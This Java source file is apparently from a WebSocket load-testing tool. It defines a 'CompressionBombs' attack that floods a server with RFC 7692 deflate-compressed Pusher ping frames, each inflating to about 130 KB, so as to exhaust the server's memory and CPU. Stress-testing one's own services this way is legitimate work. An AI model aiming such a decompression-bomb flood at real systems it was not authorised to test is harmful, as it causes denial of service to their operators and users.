package dev.fanfare.loadtest.attack.websocket;

import dev.fanfare.loadtest.attack.Attack;
import dev.fanfare.loadtest.attack.AttackSocket;
import dev.fanfare.loadtest.attack.Siege;
import dev.fanfare.loadtest.wire.ClientFrames;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.zip.Deflater;

/// Sends compressed messages that inflate to a thousand times their size.
public final class CompressionBombs implements Attack {

  private static final int INFLATED = 130_000;
  private static final int BATCH = 16;

  @Override
  public void strike(Siege siege, int attacker) throws IOException {
    AttackSocket.Batch batch = AttackSocket.Batch.of(ClientFrames.compressed(bomb()), BATCH);
    try (AttackSocket socket = siege.open()) {
      socket.upgrade(true);
      socket.drainInBackground();
      while (!siege.isOver()) {
        socket.send(batch);
      }
    }
  }

  /// A `pusher:ping` followed by blanks, without the four bytes that RFC 7692 omits.
  public static byte[] bomb() {
    String text = "{\"event\":\"pusher:ping\",\"data\":{}";
    byte[] message =
        (text + " ".repeat(INFLATED - text.length() - 1) + "}").getBytes(StandardCharsets.US_ASCII);
    byte[] deflated = new byte[INFLATED];
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
    try {
      deflater.setInput(message);
      int length = deflater.deflate(deflated, 0, deflated.length, Deflater.SYNC_FLUSH);
      return Arrays.copyOf(deflated, length - 4);
    } finally {
      deflater.end();
    }
  }
}
